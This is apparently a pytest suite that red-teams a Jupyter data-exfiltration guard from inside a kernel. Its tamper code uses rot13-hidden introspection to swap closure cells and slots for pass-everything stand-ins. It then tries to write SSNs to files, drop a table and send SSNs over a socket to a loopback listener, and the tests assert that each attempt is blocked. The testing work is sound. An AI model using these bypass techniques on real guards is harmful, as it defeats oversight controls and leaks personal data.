"""No guard closure a cell can reach from a library, judged in a real kernel.

A closure cell's contents can be set with no audit event (``f.__closure__[0].cell_contents =
...``), so every wrapper the guard patches into a library is handed out ``sealed``
(``sealed_events``: no ``__closure__``). The class test walks every library module and class
of a kernel with pandas, DuckDB, numpy, polars, pyarrow, sqlite3, psycopg, psycopg2, asyncpg,
SQLAlchemy and the stdlib's streams imported and used, and lists the guard functions among their attributes that still expose a
closure; only the documented ones in files other engineers own may remain (``OPEN``).

Attacks by effect: a cell that swapped a pandas writer's exports check for one passing all
wrote a sensitive frame to a file; one that swapped ``duckdb.connect``'s guard for one judging
nothing dropped a protected table; one that swapped ``open``'s file exits for one handing back
the raw file wrote e-mails and SSNs to a file; one that swapped the socket sends' runtime for
one allowing every host sent SSNs to a loopback listener. All are refused now, the file not
written, the table still there, the listener given nothing. Their twins: plain frames, files,
socket sends and ordinary DuckDB work still run.
"""
from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.enforce.red15e_listen import Listener, _sink
from tests.enforce.test_busy_token import ROWS, _settle, busy_kernel
from tests.kernelutil import Kernel

pytestmark = pytest.mark.kernel

# guard functions that may still expose a closure (module prefix: why): none left
OPEN: dict[str, str] = {}

# the guard functions reachable from a library's modules and classes that expose a closure
# with something in it (rot13 keeps the introspection's spelling out of the cell's text)
WALK = """
import codecs, sys as _s, types as _t
def _open_closures():
    CL, CC = codecs.decode('__pybfher__', 'rot13'), codecs.decode('pryy_pbagragf', 'rot13')
    seen, out = set(), []
    def funcs(v):
        if isinstance(v, (classmethod, staticmethod)):
            v = v.__func__
        if isinstance(v, property):
            return [x for x in (v.fget, v.fset, v.fdel) if x is not None]
        return [getattr(v, '__func__', v)]
    def look(where, v):
        for f in funcs(v):
            if type(f) is not _t.FunctionType or id(f) in seen:
                continue
            seen.add(id(f))
            if not str(getattr(f, '__module__', '')).startswith('jupyter_guard'):
                continue
            held = []
            for c in getattr(f, CL) or ():
                try:
                    held.append(type(getattr(c, CC)).__name__)
                except ValueError:
                    pass
            if held:
                out.append(f'{where} {f.__module__}.{f.__qualname__} {held}')
    for mn, m in list(_s.modules.items()):
        if m is None or mn.startswith(('jupyter_guard', '__main__')):
            continue
        for n, v in list(getattr(m, '__dict__', {}).items()):
            look(f'{mn}.{n}', v)
            if isinstance(v, type) and id(v) not in seen:
                seen.add(id(v))
                for cn, cv in list(vars(v).items()):
                    look(f'{mn}.{n}.{cn}', cv)
    return out
"""
USE = ("import pandas as pd, numpy as np, sqlite3, psycopg, psycopg2, asyncpg, sqlalchemy\n"
       "import polars, pyarrow.parquet, pyarrow.csv, pyarrow.feather, pyarrow.orc\n"
       "import multiprocessing.connection, gzip, bz2, lzma, zipfile, mmap, ssl\n"
       "pd.DataFrame({'a': [1]}).to_csv('warm.csv')\ncon.execute('SELECT 1').fetchall()\n"
       "con.sql('SELECT 1').fetchall()\nsqlite3.connect(':memory:').close()\n")

# an exports check that passes everything, put in place of the writer's
FAKE = ("class Pass:\n    def __getattr__(self, n):\n        return lambda *a, **k: None\n"
        "def cells(fn):\n    return getattr(fn, R('__pybfher__'), None) or ()\n"
        "def swap(cs, ok):\n    n = 0\n    for c in cs:\n"
        "        if type(c).__name__ == 'cell' and ok(getattr(c, R('pryy_pbagragf'))):\n"
        "            setattr(c, R('pryy_pbagragf'), Pass() if ok is checks else Lenient(\n"
        "                getattr(c, R('pryy_pbagragf'))))\n            n += 1\n    return n\n"
        "checks = lambda x: hasattr(x, 'check') and not isinstance(x, type)\n"
        "guards = lambda x: type(x).__name__ == 'Guard'\n"
        # a guard that judges nothing: every statement is judged as an empty one (allowed)
        "class Lenient:\n    def __init__(s, g):\n        s.g = g\n"
        "    def __getattr__(s, n):\n        return getattr(s.g, n)\n"
        "    def judge(s, analysis, **k):\n        return s.g.judge(type(analysis)(()), **k)\n"
        "    def sql_analysis(s, *a, **k):\n        return type(s.g.sql_analysis('SELECT 1'))(())\n"
        # and whose effect check only audits: a measured change is kept
        "    policy = property(lambda s: Audit(s.g.policy))\n"
        "class Audit:\n    mode = 'audit'\n    def __init__(s, p):\n        s.p = p\n"
        "    def __getattr__(s, n):\n        return getattr(s.p, n)\n"
        "def via_gc(fn):\n    import gc\n"
        "    return [c for x in gc.get_referents(fn) for c in (cells(x) if callable(x) else ())]\n"
        # a cell's contents replaced by ``new(old)`` where ``ok(old)``
        "def swap_to(cs, ok, new):\n    n = 0\n    for c in cs:\n"
        "        if type(c).__name__ == 'cell' and ok(getattr(c, R('pryy_pbagragf'))):\n"
        "            setattr(c, R('pryy_pbagragf'), new(getattr(c, R('pryy_pbagragf'))))\n"
        "            n += 1\n    return n\n"
        # file exits that hand back the raw file
        "class Raw:\n    def opened(s, f, *a):\n        return f\n"
        "exits_ = lambda x: hasattr(x, 'opened') and not isinstance(x, type)\n"
        # a runtime whose policy allows every host, with no budget
        "class AllowAll:\n    allow_hosts = type('All', (), {'__contains__': lambda s, h: True})()\n"
        "    max_values_per_cell = max_values_per_session = 0\n"
        "class OpenRt:\n    def __init__(s, rt):\n        s.rt = rt\n"
        "    def __getattr__(s, n):\n        return getattr(s.rt, n)\n"
        "    guard = property(lambda s: type('G', (), {'policy': AllowAll()})())\n"
        "runtimes = lambda x: hasattr(x, 'user_stack') and hasattr(x, 'guard') "
        "and not isinstance(x, type)\n")


@pytest.fixture(scope="module")
def k(work_root: Path) -> Iterator[Kernel]:
    with busy_kernel(work_root, "import duckdb, pandas as pd\n" + FAKE + USE) as kernel:
        yield kernel


def test_no_guard_closure_is_reachable_from_a_library(k: Kernel) -> None:
    r = k.ok(WALK + "for line in _open_closures():\n    print('OPEN', line)\nprint('walked')")
    assert "walked" in r.stream, r.everything()
    listed = [ln.split(" ", 2)[2] for ln in r.stream.splitlines() if ln.startswith("OPEN ")]
    undocumented = [ln for ln in listed if not ln.startswith(tuple(OPEN))]
    assert not undocumented, "guard closures a cell can swap a cell of:\n" + "\n".join(undocumented)


def test_the_walk_sees_an_open_closure(k: Kernel) -> None:
    """The walk is not blind: a guard closure put on a library class is listed."""
    r = k.ok(WALK + "import json\nfrom jupyter_guard.hooks import lazy\n"
             "def mk(x):\n    def probe_fn():\n        return x\n    return probe_fn\n"
             "f = mk(lazy)\nf.__module__ = 'jupyter_guard.probe'\njson.probe_fn = f\n"
             "print([ln for ln in _open_closures() if 'probe_fn' in ln])\ndel json.probe_fn")
    assert "json.probe_fn jupyter_guard.probe" in r.stream, r.everything()


WRITER_TAMPERS = [
    pytest.param("n = swap(cells(pd.DataFrame.to_csv), checks)", id="closure-cell"),
    pytest.param("n = swap(via_gc(pd.DataFrame.to_csv), checks)", id="gc-referents"),
]


@pytest.mark.parametrize("tamper", WRITER_TAMPERS)
def test_a_swapped_writer_cell_does_not_let_a_sensitive_frame_out(k: Kernel, tamper: str) -> None:
    out = k.workdir / "leak.csv"
    out.unlink(missing_ok=True)
    try:
        r = k.run("emails = con.execute('SELECT email, ssn FROM customers').df()\n"
                  f"try:\n    {tamper}\nexcept Exception as e:\n    print('tamper failed:', e)\n"
                  "emails.to_csv('leak.csv')")
        text = r.everything()
        assert not out.exists(), f"the sensitive frame was written: {text}"
        assert "Blocked by jupyter_guard" in text, text
    finally:
        _settle(k)


def test_plain_frames_are_still_written(k: Kernel) -> None:
    r = k.ok("pd.DataFrame({'a': [1, 2], 'city': ['Lyon', 'Nice']}).to_csv('plain.csv', index=False)\n"
         "s = pd.Series([3, 4], name='n')\ns.to_csv('series.csv', index=False)\n"
         "print(pd.DataFrame({'a': [1]}).to_csv(index=False).strip())\nimport inspect\n"
         "print('sig', list(inspect.signature(pd.DataFrame({'a': [1]}).to_csv).parameters)[:2],"
         " pd.DataFrame.to_csv.__name__)")
    with open(k.workdir / "plain.csv", newline="") as f:
        assert list(csv.reader(f)) == [["a", "city"], ["1", "Lyon"], ["2", "Nice"]]
    assert (k.workdir / "series.csv").read_text().split() == ["n", "3", "4"]
    # the sealed writer still tells its signature and name (the original's)
    assert "sig ['path_or_buf', 'sep'] to_csv" in r.stream, r.everything()


DUCK_TAMPERS = [
    pytest.param("n = swap(cells(duckdb.connect), guards)", id="closure-cell"),
    pytest.param("n = swap(via_gc(duckdb.connect), guards)", id="gc-referents"),
    # the connection proxy's guard was a slot: ``object.__setattr__`` sets one, with no event
    pytest.param("object.__setattr__(c2, R('_wt_thneq'), Lenient(getattr(c2, R('_wt_thneq'))))",
                 id="proxy-slot"),
]


@pytest.mark.parametrize("tamper", DUCK_TAMPERS)
def test_a_swapped_connect_cell_does_not_let_a_table_drop(k: Kernel, tamper: str) -> None:
    # a swapped connect's cell acts on the connections opened after it; a slot on this one
    fresh = "" if "__setattr__" in tamper else "c2 = duckdb.connect('wh.duckdb')\n"
    try:
        r = k.run("c2 = duckdb.connect('wh.duckdb')\n"
                  f"try:\n    {tamper}\nexcept Exception as e:\n    print('tamper failed:', e)\n"
                  f"{fresh}c2.execute(R('QEBC GNOYR phfgbzref'))")
        text = r.everything()
        assert "Blocked by jupyter_guard" in text, text
    finally:
        _settle(k)
    r = k.ok("print('rows', con.execute('SELECT count(*) FROM customers').fetchall()[0][0])")
    assert f"rows {ROWS}" in r.stream, r.everything()


def test_duckdb_still_works(k: Kernel) -> None:
    r = k.ok("m = duckdb.connect(':memory:')\nm.execute('CREATE TABLE t(x INT)')\n"
             "m.execute('INSERT INTO t VALUES (1), (2)')\nm.executemany('INSERT INTO t VALUES (?)', "
             "[[3]])\nprint('sum', m.execute('SELECT sum(x) FROM t').fetchall()[0][0], "
             "duckdb.sql('SELECT 41 + 1').fetchall()[0][0], duckdb.connect.__name__)\n"
             "m.close()")
    assert "sum 6 42 connect" in r.stream, r.everything()


OPEN_TAMPERS = [
    # the cell's own ``open`` is IPython's wrapper, which calls the guarded ``io.open``
    pytest.param("n = swap_to(cells(builtins.open), exits_, lambda x: Raw())",
                 id="builtins-open-cell"),
    pytest.param("n = swap_to(cells(io.open), exits_, lambda x: Raw())", id="io-open-cell"),
    pytest.param("n = swap_to(via_gc(open), exits_, lambda x: Raw())", id="gc-referents"),
]


@pytest.mark.parametrize("tamper", OPEN_TAMPERS)
def test_a_swapped_open_cell_does_not_let_values_out(k: Kernel, tamper: str) -> None:
    out = k.workdir / "leak_open.txt"
    out.unlink(missing_ok=True)
    try:
        r = k.run("import builtins, io\nrows = con.execute('SELECT email, ssn FROM customers').df()\n"
                  f"try:\n    {tamper}\nexcept Exception as e:\n    print('tamper failed:', e)\n"
                  "with open('leak_open.txt', 'w') as fh:\n"
                  "    fh.write('\\n'.join(rows.email + ',' + rows.ssn))")
        text = r.everything()
        assert "Blocked by jupyter_guard" in text, text
        written = out.read_text() if out.exists() else ""
        assert "@example.com" not in written and "10000000" not in written, written[:200]
    finally:
        _settle(k)


def test_plain_files_are_still_opened(k: Kernel) -> None:
    r = k.ok("import io, inspect, builtins\n"
             "with open(file='plain.txt', mode='w', encoding='utf-8', newline='') as fh:\n"
             "    fh.write('Lyon\\nNice\\n')\n"
             "with io.open('plain.txt', 'rb', buffering=0) as fh:\n    print('raw', fh.read())\n"
             "print('same', io.open is builtins.open, builtins.open.__name__, open.__name__,"
             " list(inspect.signature(builtins.open).parameters)[:3],"
             " list(inspect.signature(open).parameters)[:1])")
    assert (k.workdir / "plain.txt").read_text() == "Lyon\nNice\n"
    assert "raw b'Lyon\\nNice\\n'" in r.stream, r.everything()
    # the cell's ``open`` is IPython's wrapper of ``io.open``, which is the guarded builtin
    assert "same True open open ['file', 'mode', 'buffering'] ['file']" in r.stream, r.everything()


@pytest.fixture(scope="module")
def sink() -> Iterator[Listener]:
    listener = Listener(_sink)
    yield listener
    listener.close()


SEND = ("import http.client\nc = http.client.HTTPConnection('127.0.0.1', {port})\nc.connect()\n"
        "try:\n    v = memoryview({data}.encode())\n    while v:\n        v = v[c.sock.send(v):]\n"
        "finally:\n    c.close()")

SOCKET_TAMPERS = [
    pytest.param("n = sum(swap_to(cells(getattr(socket.socket, m)), runtimes, OpenRt)"
                 " for m in ('send', 'sendall'))", id="closure-cell"),
    pytest.param("n = swap_to(via_gc(socket.socket.send), runtimes, OpenRt)", id="gc-referents"),
]


@pytest.mark.parametrize("tamper", SOCKET_TAMPERS)
def test_a_swapped_socket_send_cell_sends_no_value(k: Kernel, sink: Listener,
                                                   tamper: str) -> None:
    sink.settle()
    try:
        r = k.run("import socket\nrows = con.execute('SELECT email, ssn FROM customers').df()\n"
                  f"try:\n    {tamper}\nexcept Exception as e:\n    print('tamper failed:', e)\n"
                  + SEND.format(port=sink.port, data="'\\n'.join(rows.ssn)"))
        text = r.everything()
        assert "Blocked by jupyter_guard" in text, text
    finally:
        _settle(k)
    got = sink.settle()
    assert b"10000000" not in got, got[:200]


def test_a_plain_socket_send_still_arrives(k: Kernel, sink: Listener) -> None:
    sink.settle()
    k.ok(SEND.format(port=sink.port, data="'plain twin: Lyon, Nice'"))
    assert b"plain twin: Lyon, Nice" in sink.settle()
